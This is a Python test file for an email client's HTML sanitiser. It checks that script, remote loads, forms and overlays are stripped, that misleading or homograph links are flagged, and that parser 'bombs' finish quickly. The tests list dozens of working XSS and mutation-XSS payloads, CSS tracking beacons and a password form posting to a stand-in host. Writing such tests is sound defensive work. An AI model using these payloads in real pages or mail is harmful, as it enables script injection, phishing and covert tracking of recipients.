"""HTML of mail from outside: nothing runs, loads, submits or overlays; what honest mail looks like stays."""

# ruff: noqa: E501, PT018 (mail as it stands on one line; pairs of facts asserted together)

from __future__ import annotations

import json
import os
import re
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbox.mail.html_bounds import bounded
from inbox.mail.safe_html import clean, is_misleading, to_text

ATTACKS = [  # S-01, S-04, S-05
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    '<form action="https://evil.test"><input name=password><button>go</button></form>',
    "<base href=https://evil.test/>",
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.test"></object><embed src="https://evil.test">',
    '<link rel=stylesheet href="https://evil.test/x.css"><link rel=dns-prefetch href="//evil.test">',
    "<style>@import 'https://evil.test'; input[value^=a]{background:url(https://evil.test)}</style>",
    '<p style="background:url(https://evil.test/x.gif)">x</p>',
    "<p style=\"background-image:image-set('https://evil.test' 1x)\">x</p>",
    r'<p style="width:expression(alert(1));b\61ckground:u\72l(https://evil.test)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;z-index:9">x</p>',
    '<p style="color:var(--x);cursor:url(https://evil.test)">x</p>',
    '<table background="https://evil.test/x.gif"><tr><td background="//evil.test/y">x</table>',
    '<img srcset="https://evil.test/x.gif 2x" src="https://evil.test/y.gif">',
    '<video poster="https://evil.test/x"><source src="https://evil.test/y"></video>',
    '<img src="//evil.test/x.gif">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg><feImage href="https://evil.test/x"/></svg>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=\"http://a.test\" title='x' onclick=alert(1) target=_top>x</a>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
]
_RUNS_OR_LOADS = re.compile(
    r"(?i)<(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|video)|<[^>]*\s(?:on\w+|srcset|background|poster|id|class)\s*=|<[^>]*\"\s*(?:javascript|vbscript|data:text)|<img[^>]*src=\"(?:https?:)?//|url\(|expression|position|@import"
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_overlays(attack: str) -> None:
    found = clean(f"<p>before</p>{attack}<p>after</p>").html
    assert not _RUNS_OR_LOADS.search(found), found
    assert "before" in found


def test_remote_pictures_are_counted_and_come_back_only_through_us() -> None:
    html = '<img src="https://a.test/x.gif" alt="logo"><img src="http://b.test/y.gif"><img src="cid:one@x">'
    blocked = clean(html)
    assert blocked.blocked_remote == 2
    assert "src=" not in blocked.html and 'alt="logo"' in blocked.html
    shown = clean(html, remote=True, image_url=lambda source: f"/picture?from={source[:5]}")
    assert shown.blocked_remote == 0
    assert re.findall(r'src="([^"]*)"', shown.html) == [
        "/picture?from=https",
        "/picture?from=http:",
        "/picture?from=cid:o",
    ]


def test_an_inline_picture_without_part_is_left_out() -> None:
    assert "src" not in clean('<img src="cid:gone">', image_url=lambda source: None).html


def test_small_pictures_in_the_mail_itself_are_shown() -> None:
    assert 'src="data:image/png;base64,iVBORw0=' in clean('<img src="data:image/png;base64,iVBORw0=">').html
    assert "data:" not in clean(f'<img src="data:image/png;base64,{"A" * 400_000}">').html


def test_links_open_elsewhere_and_show_their_true_host() -> None:
    found = clean('<a href="https://www.bank.test/login">our site</a>')
    assert 'target="_blank"' in found.html and 'rel="noopener noreferrer nofollow"' in found.html
    assert 'title="www.bank.test"' in found.html and "misleading" not in found.html
    assert found.links[0].target == "https://www.bank.test/login"


@pytest.mark.parametrize(
    ("words", "target", "misleads"),
    [
        ("https://bank.test/login", "https://evil.test/", True),
        ("www.bank.test", "https://bank.test/", False),
        ("bank.test", "https://click.bank.test/x?u=1", False),
        ("bank.test", "https://bank.test.evil.example/", True),
        ("ログイン bank.test", "https://evil.test/", False),
        ("https://bank.test", "https://user:bank.test@evil.test/", True),
        ("www.аррӏе.com", "https://www.apple.com/", True),
        ("click here", "https://evil.test/", False),
        ("me@bank.test", "mailto:me@bank.test", False),
    ],
)
def test_words_that_name_another_host_are_marked(words: str, target: str, misleads: bool) -> None:
    assert is_misleading(words, target) is misleads
    assert ("data-misleading" in clean(f'<a href="{target}">{words}</a>').html) is misleads


def test_the_looks_of_old_mail_stay() -> None:
    html = (
        '<center><table width="600" bgcolor="#ffffff" cellpadding="0" cellspacing="0" border="1" align="center"><tr valign="top">'
        '<td align="center" colspan="2" style="font-size:14px;color:rgb(1,2,3);font-family:\'MS Pゴシック\',sans-serif;padding:4px 8px">'
        '<font color="red" face="Arial" size="2">赤い</font></td></tr></table></center><blockquote type="cite">q</blockquote>'
    )
    found = clean(html).html
    for kept in (
        "<center>",
        'width="600"',
        'bgcolor="#ffffff"',
        'cellpadding="0"',
        'align="center"',
        'valign="top"',
        'colspan="2"',
        "font-size:14px",
        "rgb(1, 2, 3)",
        "MS Pゴシック",
        'color="red"',
        'face="Arial"',
        "padding:4px 8px",
        'type="cite"',
    ):
        assert kept in found, kept


def test_cleaning_again_changes_nothing() -> None:
    def without_our_marks(html: str) -> str:
        return re.sub(r' (?:title|rel|target|data-misleading)="[^"]*"', "", html)

    for attack in ATTACKS:
        once = clean(attack).html
        assert without_our_marks(clean(once).html) == without_our_marks(once)


BOMBS = {
    "nested": "<div>" * 20_000 + "x",
    "nested 400,000": "<div>" * 400_000 + "x",
    "unclosed formatting": "".join(f"<div><b title={n}></div>" for n in range(50_000)),
    "formatting in cells": "".join(f"<b id={n}><table><td></b></table>" for n in range(50_000)),
    "closed inside a value": '<div title="</div>">' * 50_000,
    "closed inside a script": "<div><script><!--<script></script></div></script>" * 30_000,
    "closed inside foreign content": "<div><svg><style></div></style></svg>" * 30_000,
    "ampersands": "&" * 2_000_000,
    "entities": "&am;" * 500_000,
    "open tags": "<a " * 600_000,
    "quotes": '<a b="' * 300_000,
    "comments": "<!--" * 500_000,
    "styles": "<style>" * 200_000,
    "fostered": "<table>" + "x<b>" * 50_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
    "anchors": '<a href="http://x.test">' * 60_000,
    "numbered items": "<ol>" + "<li>x" * 59_000,
    "cells": "<table><tr>" + "<td>x" * 59_000,
    "wide and long table": "<table>" + ("<tr><td>" + "x" * 500_000) + "<tr><td>y" * 29_000,
    "10 MB": "<p>text &amp; more</p>" * 500_000,
    "spaces": "<a " + " " * 1_500_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_bombs_take_little_time(bomb: str) -> None:
    began = time.thread_time()
    clean(BOMBS[bomb])
    to_text(BOMBS[bomb])
    assert time.thread_time() - began < 5.0  # of processor time; the slowest takes about 1 s


def test_ten_megabytes_are_cut_and_say_so() -> None:
    found = clean("<p>x</p>" * 1_300_000)
    assert found.cut
    assert not clean("<p>x</p>").cut


def test_text_below_the_depth_limit_is_kept() -> None:
    deep = "<div>" * 1000 + "deep words" + "</div>" * 1000 + "end"
    assert "deep words" in clean(deep).html and "end" in clean(deep).html
    assert to_text(deep).split() == ["deep", "words", "end"]


def test_honest_html_passes_the_bounds_unchanged() -> None:
    html = "<!doctype html><p title=\"a > b\">x<b>y</b><br/></p><ul><li>1<li>2</ul><a href='x'>z</a> 3 < 4 &amp; 5"
    assert bounded(html).html == html
    assert not bounded(html).cut


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<div>",
                "</div>",
                "<b x='",
                "'",
                '"',
                ">",
                "<a href=javascript:alert(1)>",
                "<svg>",
                "<style>",
                "</style>",
                "<!--",
                "-->",
                "<img src=x onerror=alert(1) ",
                "text",
                "&",
                "=",
                "<script>",
                "</script",
                "<td>",
                "\x00",
                "\ud800",
                "<table>",
                "<title>",
                "<math>",
                "<mtext>",
            ]
        ),
        max_size=25,
    ).map("".join)
)
def test_pieces_in_any_order_neither_raise_nor_run(html: str) -> None:
    assert not re.search(r"(?i)<[a-z][^<>]*\son\w+=|<script|<style|<svg|\"javascript:", clean(html).html)
    to_text(html)


def test_text_of_html_reads_like_the_mail() -> None:
    html = "<p>Hello,</p><p>this is<br>it.</p><ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table><pre>x  y\n z</pre><style>p{}</style>"
    assert to_text(html) == "Hello,\n\nthis is\nit.\n\n- one\n- two\n\na  b\nc  d\n\nx  y\n z"


def test_text_of_html_can_carry_the_targets_of_links() -> None:
    html = 'See <a href="https://a.test/x">our page</a> or <a href="https://b.test">b.test</a>.'
    assert to_text(html) == "See our page or b.test."
    assert to_text(html, links=True) == "See our page <https://a.test/x> or b.test."


def test_numbered_items_keep_their_numbers() -> None:
    assert to_text("<ol><li>one<ol><li>inner</ol><li>two</ol>") == "1. one\n1. inner\n2. two"


def test_hidden_words_are_no_text() -> None:
    assert to_text('<div style="display:none">preheader</div><p>words</p>') == "words"


CORPORA = Path(os.environ.get("MADOGUCHI_CORPORA") or Path(__file__).parents[4] / "shared" / "corpora") / "cases"


@pytest.mark.skipif(not CORPORA.is_dir(), reason="the corpora are not at hand (MADOGUCHI_CORPORA)")
@pytest.mark.parametrize("name", ["dompurify", "loofah"])
def test_other_sanitisers_attacks_leave_nothing(name: str) -> None:
    for line in (CORPORA / f"{name}.jsonl").read_text("utf-8").splitlines():
        case = json.loads(line)
        found = clean(case["text"]).html
        assert not re.search(r'(?i)(?:href|src)="\s*(?:javascript|vbscript|data:text)|style="[^"]*url\(', found), case[
            "id"
        ]
        assert not re.search(
            r"(?i)<[a-z][^<>]*\son\w+=|<(?:script|style|svg|math|iframe|form|base|meta|link)",
            re.sub('"[^"]*"', '""', found),
        ), case["id"]


@pytest.mark.parametrize(
    "before", ['<svg><path d="M0 0"/></svg>', '<svg><use href="#a"></svg>', "<math><mi>x</mi></math>", "<list>", "<set>", "<image>"]
)
def test_drawings_and_made_up_tags_take_no_words_along(before: str) -> None:
    assert "<p>The words</p>" in clean(f"{before}<p>The words</p>").html
